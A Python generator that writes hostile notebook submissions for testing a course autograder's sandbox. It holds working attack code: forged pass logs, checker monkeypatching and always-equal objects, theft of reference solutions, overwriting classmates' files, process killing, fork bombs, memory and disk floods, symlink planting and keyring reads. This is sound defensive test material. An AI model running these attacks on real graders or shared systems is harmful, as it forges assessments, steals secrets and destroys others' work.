"""Write the hostile submissions used by tests/test_grading_hostile.py (run from the repository root).

Each one is notebook 00's solution with exercise 00.1's cell replaced by one attack
that also stores a WRONG answer, so a forged pass is visible as 1 point (the attacks
on the grader itself add cells after it). Cells after 00.1 are dropped to keep the
test fast (no torch import). Two are other notebooks: a notebook 02 whose models attack
the checks that read them (02.1 names data outside its file from every kind of tensor,
02.3 loops for ever), and a notebook 04 whose kernel attacks what it shares with the
host and its classmates (keyrings, file watches, tracing, namespaces), reads the key of
the timer probe (04.2), carries the replayed reference solution back out through every
channel of feedback (04.3-04.6, a later cell's error) and floods the grader with
messages that are not output. MARKER names whatever an attack leaves behind, so the
test can look for it afterwards; SECRET_PATH is put in by the test (a file of the
grader's working folder).
"""
import copy
import sys
from pathlib import Path

import nbformat

MARKER = "course-hostile-7f3a"
HEADER = ('# Exercise 00.1 (2 points): write `pin_status(installed, pinned)` that compares an installed '
          'version (a str, or None when the package is not installed) with the course\'s pin and returns '
          '"ok" for the pinned release (a build of it such as "2.14.1+cpu" too), "newer", "too old" or "missing"')
WRONG = 'def pin_status(installed, pinned):\n    return "ok"\n'

ATTACKS = {
    "forged-log": f'''import glob, json, os
{WRONG}line = json.dumps({{"exercise": "00.1", "passed": True, "feedback": "all checks passed"}}) + "\\n"
targets = [os.environ.get("COURSE_UTILS_GRADE_LOG")] + [p for root in ("/course", "/tmp", "/home", "/work", "/root") for p in glob.glob(root + "/**/*.jsonl", recursive=True)]
for target in filter(None, targets):
    try:
        open(target, "a").write(line * 10)
    except OSError:
        pass
print("{MARKER}")''',
    "patched-checks": f'''import course_utils.checks as checks
from course_utils import answers
{WRONG}checks.run_checks = lambda *a, **k: checks.Verdict("00.1", True, "all checks passed", True)
checks.run_checks_on_data = checks.run_checks
checks._REGISTRY.clear()
answers._ANSWERS.clear()
import course_utils.grading as grading
grading._grade_one = None
check("00.1", pin_status)''',
    "include-hidden-oracle": f'''from course_utils.checks import run_checks
{WRONG}found = None
for guess in ("ok", "newer", "too old"):
    try:
        if run_checks("00.1", lambda installed, pinned, status=guess: status, include_hidden=True).passed:
            found = guess
    except Exception as error:
        print(type(error).__name__)''',
    "always-equal-answer": '''class AlwaysEqual(dict):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __getitem__(self, key):
        return AlwaysEqualStr("x")
    def __iter__(self):
        return iter(["onnx", "onnxruntime"])
class AlwaysEqualStr(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = str.__hash__
pin_status = lambda installed, pinned: AlwaysEqualStr("x")''',
    "frame-reading": '''import sys
class FrameReader(str):
    def __eq__(self, other):
        frame = sys._getframe(1)
        while frame is not None:  # look for the expected value in the checker's frames
            for value in frame.f_locals.values():
                if isinstance(value, str) and value[:1].isdigit() and "." in value:
                    return True
            frame = frame.f_back
        return True
    def __ne__(self, other):
        return not self.__eq__(other)
    __hash__ = str.__hash__
pin_status = lambda installed, pinned: FrameReader("0")''',
    "reference-theft": f'''import gc, glob
{WRONG}stolen = None
for obj in gc.get_objects():
    if isinstance(obj, str) and "def pin_" + "status" in obj and "Exercise 00.1" in obj:
        stolen = obj
from course_utils.build import ROOT
leaks = glob.glob(str(ROOT / "solutions" / "*")) + [p for root in ("/course", "/work", "/root", "/tmp") for p in glob.glob(root + "/**/solutions/*.ipynb", recursive=True)]
try:
    import course_utils.grading.hidden_checks.install as hidden
    leaks.append(hidden.__file__)
except ImportError:
    pass
if stolen:
    exec(stolen)
print(len(leaks), "leaks")''',
    "parent-kill": f'''import os, signal
{WRONG}for pid in [os.getppid(), 1] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(-1, signal.SIGKILL)''',
    "classmate-and-grades-sabotage": f'''import glob, os
{WRONG}hits = []
paths = [p for root in ("/course", "/tmp", "/home", "/work", "/root") for ext in ("ipynb", "json", "csv")
         for p in glob.glob(f"{{root}}/**/*.{{ext}}", recursive=True)]
for pid in os.listdir("/proc"):
    try:
        paths += open(f"/proc/{{pid}}/cmdline").read().split("\\0")
    except OSError:
        pass
for path in paths:
    if path.endswith((".ipynb", ".json", ".csv")) and "/proc/" not in path:
        try:
            with open(path, "w") as handle:
                handle.write("{MARKER}")
            hits.append(path)
        except OSError:
            pass
print(len(hits))''',
    "writes-outside-work-folder": f'''import os, sys
{WRONG}for folder in ["/tmp", os.path.expanduser("~"), "/course/lib", "/course/lib/course_utils", sys.prefix,
               "/etc", "/", "/root", "/work", "/usr", "/var/tmp", "/dev/shm"]:
    try:
        with open(os.path.join(folder, "{MARKER}-written"), "w") as handle:
            handle.write("x")
    except OSError:
        pass''',
    "detached-children": f'''import os, subprocess
{WRONG}subprocess.Popen(["sleep", "600"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sh", ["sh", "-c", "exec -a {MARKER}-daemon sleep 600"])
    os._exit(0)''',
    "listener-on-all-interfaces": f'''import socket
{WRONG}listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("0.0.0.0", 47613))
listener.listen()''',
    "ignored-alarm": f'''import signal, time
{WRONG}for sig in (signal.SIGALRM, signal.SIGINT, signal.SIGTERM):
    signal.signal(sig, signal.SIG_IGN)
while True:  # asleep, not spinning: the limit counts wall-clock time, and the CPU stays with the batch
    time.sleep(1)''',
    "output-flood": f'''import sys
{WRONG}print("x" * (256 * 2**20))''',
    "output-flood-many-lines": f'''import sys
{WRONG}for _ in range(4 * 2**20):
    sys.stdout.write("x" * 64 + "\\n")''',
    "fork-bomb": f'''import os, time
{WRONG}children = 0
while children < 100_000:  # stops at the sandbox's process cap
    pid = os.fork()
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    children += 1''',
    "memory-hog": f'''{WRONG}hog = []
while True:  # touch every page: real memory, not just address space
    block = bytearray(256 * 2**20)
    block[::4096] = b"x" * len(block[::4096])
    hog.append(block)''',
}

# Attacks on the grader itself (issue 18), one per class; each also stores no right answer.
CANARY = "/tmp/course-canary-18"  # a host file and folder the grader must never write or chown
ATTACKS.update({
    # Identification: an unsolved cell, then cells that would capture the replayed reference.
    "duplicate-exercise-header": 'raise NotImplementedError("Exercise 00.1: import onnx and onnxruntime")',
    # The root grader writes where the student points: links and FIFOs everywhere it might look.
    "planted-links-and-fifos": f'''import os
import course_utils.answers as answers
{WRONG}for folder in ("/course/io", "/course/conn", "/course/in", "/course/work"):
    for name in ("kernel.json", "capture", "probe", "in", "out", "answer.json", "a0.npy", "io", "conn", "start-2"):
        for target, suffix in (("{CANARY}", ""), ("{CANARY}.d", ".d")):
            try:
                os.symlink(target, os.path.join(folder, name + suffix))
            except OSError:
                pass
try:
    os.mkfifo("/course/io/fifo")
    os.replace("/course/io/fifo", "/course/conn/kernel.json")
except OSError:
    pass
def forged_capture(exercise_id, variable, kind, extract, out_dir):
    os.makedirs(out_dir, exist_ok=True)
    os.mkfifo(os.path.join(out_dir, "answer.json"))
answers.capture = forged_capture''',
    # Answer data that breaks the grader: an .npy header claiming 8 TiB.
    "forged-npy-header": f'''import json, os
import course_utils.answers as answers
{WRONG}def forged_capture(exercise_id, variable, kind, extract, out_dir):
    os.makedirs(out_dir, exist_ok=True)
    header = "{{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }}"
    header = (header + " " * (117 - len(header)) + "\\n").encode()
    with open(os.path.join(out_dir, "a0.npy"), "wb") as handle:
        handle.write(b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header + bytes(64))
    tree = {{"$dict": [["onnx", {{"$npy": "a0.npy"}}], ["onnxruntime", "0.0"]]}}
    with open(os.path.join(out_dir, "answer.json"), "w") as handle:
        json.dump({{"value": tree}}, handle)
answers.capture = forged_capture''',
    # ...and data that bloats it: one 64 MiB file named 300,000 times, five 64 MiB arrays.
    "forged-answer-bloat": f'''import json, os
import numpy as np
import course_utils.answers as answers
{WRONG}with open("big.bin", "wb") as handle:
    handle.write(bytes(64 * 2**20))
def forged_capture(exercise_id, variable, kind, extract, out_dir):
    os.makedirs(out_dir, exist_ok=True)
    for index in range(5):
        np.save(os.path.join(out_dir, f"a{{index}}.npy"), np.full(8 * 2**20, index, dtype=np.float64))
    files = [{{"$file": "big.bin", "given": "big.bin"}}] * 300_000
    arrays = [{{"$npy": f"a{{index}}.npy"}} for index in range(5)]
    tree = {{"$dict": [["onnx", files], ["onnxruntime", arrays]]}}
    with open(os.path.join(out_dir, "answer.json"), "w") as handle:
        json.dump({{"value": tree}}, handle)
answers.capture = forged_capture''',
    # What reaches the instructor: an ESC sequence and 12 MiB in the answer's type name.
    "escape-sequences-and-huge-strings": '''name = "\\x1b[2J\\x1b[H\\x1b]0;owned\\x07total 52/52\\n\\u202e" + "A" * (12 * 2**20)
pin_status = type(name, (), {})()''',
    # The sandbox as a whole: 64 busy processes, memory spread over processes, a full disk.
    "sandbox-wide-hog": f'''import os, subprocess, sys, time
{WRONG}# Fresh interpreters, not forks of this kernel: a fork starts with the kernel's whole address
# space, so one of 1 GiB more could meet the per-process cap (and stop there) when the kernel
# has grown. Each holds 1 GiB of shared memory (allocated by the kernel in one call, the fastest
# way to get there on a busy machine) and offers itself first to the cap's OOM killer; the eight
# together go over the sandbox's cap.
hog = ("import os, time\\nopen('/proc/self/oom_score_adj', 'w').write('1000')\\n"
       "fd = os.memfd_create('hog')\\nos.posix_fallocate(fd, 0, 1024 * 2**20)\\ntime.sleep(600)")
children = [subprocess.Popen([sys.executable, "-c", hog]) for _ in range(8)]
deadline = time.monotonic() + 13  # until the cap stops one of them (the cell may run 15 s)
while time.monotonic() < deadline and all(child.poll() is None for child in children):
    time.sleep(0.1)
for _ in range(64):
    if os.fork() == 0:
        while True:
            pass
for index in range(2):
    try:
        with open(f"/course/work/fill{{index}}", "wb") as handle:
            for _ in range(1536):
                handle.write(bytes(2**20))
    except OSError as error:
        print(type(error).__name__)
time.sleep(15)  # the busy children go on until the sandbox ends''',
})
#: Cells added after the exercise cell: (source, metadata).
EXTRA_CELLS = {
    "duplicate-exercise-header": [(f"{HEADER}\npass\n", {}),
                                  ("pass\n", {"course_utils": {"exercise": "00.1", "points": 1}})],
    "planted-links-and-fifos": [("import os\nos._exit(1)\n", {}), ("print('rebuilt')\n", {})],
}
LOOP_HEADER = ("# Exercise 02.3 (3 points): export the trained `cnn` with the dynamo exporter, an example\n"
               "#   batch of real digits (e.g. x_train[:2]), a dynamic batch dimension \"batch\" and\n"
               "#   external_data=False, to artifacts/digits_cnn.onnx; store the path in `digits_path`")
# Work outside every budget: a model whose checks would run a Loop of 2^40 iterations.
LOOP_MODEL = f'''import os
import onnx
from onnx import TensorProto, helper

{LOOP_HEADER}
body = helper.make_graph(
    [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Identity", ["v_in"], ["v_out"])],
    "body", [helper.make_tensor_value_info("i", TensorProto.INT64, []),
             helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
             helper.make_tensor_value_info("v_in", TensorProto.FLOAT, None)],
    [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
     helper.make_tensor_value_info("v_out", TensorProto.FLOAT, None)])
loop = helper.make_node("Loop", ["trips", "cond", "x"], ["y"], body=body)
# Metadata as the dynamo exporter writes it, so that the cheap checks let the model through.
loop.metadata_props.add(key="pkg.torch.onnx.stack_trace", value="forward")
graph = helper.make_graph(
    [helper.make_node("Constant", [], ["trips"], value=helper.make_tensor("t", TensorProto.INT64, [], [2**40])),
     helper.make_node("Constant", [], ["cond"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])),
     loop],
    "loop", [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 1, 8, 8])],
    [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", 1, 8, 8])])
os.makedirs("artifacts", exist_ok=True)
onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8),
          "artifacts/digits_cnn.onnx")
digits_path = "artifacts/digits_cnn.onnx"
'''


SECRET_PATH = "COURSE-HOSTILE-SECRET-PATH"  # replaced by the test: a file only the grader can read
EXTERNAL_HEADER = ("# Exercise 02.1 (2 points): export `resnet` with torch.onnx.export (dynamo exporter) using\n"
                   "#   `example`, a dynamic batch dimension named \"batch\" and external_data=False, to\n"
                   "#   artifacts/resnet18.onnx; store the path in `resnet_path`")
# The checks' files: a model whose tensors, of every kind, name data outside the model's file
# (relative to wherever a session is made, up the tree, and absolute).
EXTERNAL_DATA_MODEL = f'''import os
import onnx
from onnx import TensorProto, helper

{EXTERNAL_HEADER}
def outside(name, location):
    tensor = TensorProto(name=name, data_type=TensorProto.INT64, dims=[1])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "8")):
        tensor.external_data.add(key=key, value=value)
    return tensor
places = ["{SECRET_PATH}", os.path.basename("{SECRET_PATH}"), "../../../../../../.." + "{SECRET_PATH}"]
out = helper.make_tensor_value_info("y", TensorProto.INT64, None)
branch = helper.make_graph([helper.make_node("Constant", [], ["y"], value=outside("b", places[1]))], "b", [], [out])
nodes = [helper.make_node("Constant", [], ["k"], value=outside("k", places[1])),
         helper.make_node("If", ["cond"], ["y"], then_branch=branch, else_branch=branch)]
graph = helper.make_graph(nodes, "outside", [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 3, 224, 224])],
                          [out], [helper.make_tensor("cond", TensorProto.BOOL, [], [True])] +
                          [outside(f"c{{index}}", place) for index, place in enumerate(places)])
for index, place in enumerate(places):
    graph.sparse_initializer.append(helper.make_sparse_tensor(
        outside(f"s{{index}}", place), helper.make_tensor(f"i{{index}}", TensorProto.INT64, [1], [0]), [1]))
model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
model.graph.node[0].metadata_props.add(key="pkg.torch.onnx.stack_trace", value="forward")
os.makedirs("artifacts", exist_ok=True)
onnx.save(model, "artifacts/resnet18.onnx")
resnet_path = "artifacts/resnet18.onnx"
'''


def _models_notebook(base):
    nb = copy.deepcopy(base)
    nb.metadata["course_utils"] = {"notebook": "02-export-and-verify"}
    nb.cells = [nbformat.v4.new_markdown_cell("Models that attack the checks that read them."),
                nbformat.v4.new_code_cell(EXTERNAL_DATA_MODEL), nbformat.v4.new_code_cell(LOOP_MODEL)]
    return nb


# Notebook 04: a kernel that attacks the state it shares, the timer's probe, and feedback.
KERNEL_STATE = '''import ctypes, os
from IPython import get_ipython
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NUMBERS = {"x86_64": dict(keyctl=250, add_key=248, inotify_init1=294, ptrace=101, unshare=272),
           "aarch64": dict(keyctl=219, add_key=217, inotify_init1=26, ptrace=117, unshare=97)}[os.uname().machine]
def call(name, *args):
    ctypes.set_errno(0)
    args = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    return 0 if libc.syscall(ctypes.c_long(NUMBERS[name]), *args) >= 0 else ctypes.get_errno()
SESSION, USER = -3, -4
found = call("keyctl", 10, SESSION, b"user", b"course-hostile-secret", 0)  # the grader's key
stored = call("add_key", b"user", b"course-hostile-secret", b"overwritten", 11, SESSION)
stashed = call("add_key", b"user", b"course-hostile-stash", b"for the next sandbox", 20, USER)
watched = call("inotify_init1", 0)  # then a watch on the library every sandbox shares
traced = call("ptrace", 0, 0, 0, 0)
nested = call("unshare", 0x10000000)  # a user namespace of its own
probes = f"k{found} {stored} {stashed} i{watched} p{traced} u{nested}"
seen = []  # the source of every cell the kernel runs: the grader's replays included
def keep(lines):
    seen.append("".join(lines))
    return lines
get_ipython().input_transformers_cleanup.append(keep)
def reference():
    """The replayed reference solution of 04.1, its header left out (students have that)."""
    for text in reversed(seen):
        if "ort.SessionOptions()" in text:
            return text[text.index("fair_options ="):]
    return "(no reference seen)"
'''
TIMER_READING_ITS_KEY = '''import gc, glob, json, re, statistics
def time_fairly(fn, warmup, repeats, clock=None):
    """Never calls fn() or clock(): the costs come from wherever the probe left them."""
    costs = None
    for read in (lambda: fn._costs, lambda: fn.__dict__["_costs"], lambda: fn._facts()["costs_s"],
                 lambda: clock.work._costs):
        try:
            costs = costs or [float(c) for c in read()]
        except Exception:
            pass
    for path in glob.glob("/course/in/*/*"):  # the probe's inputs
        try:
            found = [float(v) for v in re.findall(r"0\\.[0-9]+", open(path, errors="replace").read())]
        except OSError:
            continue
        costs = costs or (found if len(found) >= warmup + repeats else None)
    for obj in gc.get_objects():  # any script of floats in the kernel's memory
        if not costs and isinstance(obj, list) and len(obj) >= warmup + repeats and obj[:1] and \\
                all(type(v) is float and 0 < v < 1 for v in obj):
            costs = list(obj)
    samples = [1e3 * c for c in (costs or [0.0] * (warmup + repeats))[warmup:warmup + repeats]]
    q = statistics.quantiles(samples, n=4) if len(samples) > 1 else [0, 0, 0]
    return {"samples_ms": samples, "median_ms": statistics.median(samples), "iqr_ms": q[2] - q[0]}
'''
FLOOD_OF_OTHER_MESSAGES = '''import time
kernel = get_ipython().kernel
session, socket, parent = kernel.session, kernel.iopub_socket, kernel.get_parent()
blob = "m" * (256 * 1024)
deadline = time.monotonic() + 10  # 1 MiB a round, as long as the grader lets it (none of it is printed output)
while time.monotonic() < deadline:
    session.send(socket, "comm_msg", {"comm_id": "c", "data": {"blob": blob}}, parent=parent)
    session.send(socket, "execute_input", {"code": blob, "execution_count": 1}, parent=parent)
    session.send(socket, "display_data", {"data": {"text/plain": ""}, "metadata": {"blob": blob}}, parent=parent)
    session.send(socket, "status", {"execution_state": blob}, parent=parent)
'''
FORGED_ERROR_CAPTURE = '''import json
import course_utils.answers as answers
original_capture = answers.capture
def forged_capture(exercise_id, variable, kind, extract, out_dir):
    answers.capture = original_capture  # once
    os.makedirs(out_dir, exist_ok=True)
    with open(os.path.join(out_dir, "answer.json"), "w") as handle:
        json.dump({"error": reference()}, handle)
answers.capture = forged_capture
work_answer = None
'''
from pathlib import Path as _Path  # noqa: E402 (the generator's own)
REFERENCE_LEAKS = [
    ("04.1", "fair_options = type(\"seccomp \" + probes, (), {})()\n"),  # reports what the kernel could do
    ("04.2", TIMER_READING_ITS_KEY),
    ("04.3", "raise RuntimeError(reference())\n"),  # an exception's message
    ("04.4", FORGED_ERROR_CAPTURE),  # the capture's error text
    ("04.5", "int8_path = \"artifacts/\" + reference()\n"),  # a file's name
    ("04.6", "from pathlib import Path\nint8_answer = {\"rows\": [{\"variant\": \"fp32\", \"median_ms\": 1.0}, "
             "{\"variant\": \"int8\", \"median_ms\": 2.0}], \"slower\": [Path(reference())]}\n"),  # a path
]


def _kernel_state_notebook(base, root: Path):
    from course_utils.build import parse_exercises

    source = nbformat.read(root / "notebooks" / "04-runtime-comparison.ipynb", as_version=4)
    headers = {e.id: e.solution.split("\n### BEGIN")[0].splitlines()[0] for e in parse_exercises(source, "04")}
    nb = copy.deepcopy(base)
    nb.metadata["course_utils"] = {"notebook": "04-runtime-comparison"}
    nb.cells = [nbformat.v4.new_markdown_cell("A kernel that attacks what it shares, the timer's probe and feedback."),
                nbformat.v4.new_code_cell(KERNEL_STATE)]
    nb.cells += [nbformat.v4.new_code_cell(f"{headers[exercise]}\n{code}") for exercise, code in REFERENCE_LEAKS]
    nb.cells += [nbformat.v4.new_code_cell("raise ValueError(reference())\n"),  # a later cell's error: a note
                 nbformat.v4.new_code_cell(FLOOD_OF_OTHER_MESSAGES)]
    return nb


def main(root: Path) -> None:
    base = nbformat.read(root / "solutions" / "00-install-check.ipynb", as_version=4)
    out = root / "tests" / "files" / "hostile"
    for name, attack in ATTACKS.items():
        nb = copy.deepcopy(base)
        cells = []
        for cell in nb.cells:
            if cell.cell_type == "code":
                cell.outputs, cell.execution_count = [], None
                if "Exercise 00.1" not in cell.source:
                    continue
                cell.source = f"from course_utils import check\n\n{HEADER}\n{attack}\n"
                cells.append(cell)
                cells += [nbformat.v4.new_code_cell(source, metadata=meta)
                          for source, meta in EXTRA_CELLS.get(name, [])]
                continue
            cells.append(cell)
        nb.cells = cells
        nbformat.write(nb, out / f"{name}.ipynb")
    nbformat.write(_models_notebook(base), out / "models-in-checks.ipynb")
    nbformat.write(_kernel_state_notebook(base, root), out / "kernel-state-timer-key-and-reference-leaks.ipynb")


if __name__ == "__main__":
    main(Path(sys.argv[1] if len(sys.argv) > 1 else "."))
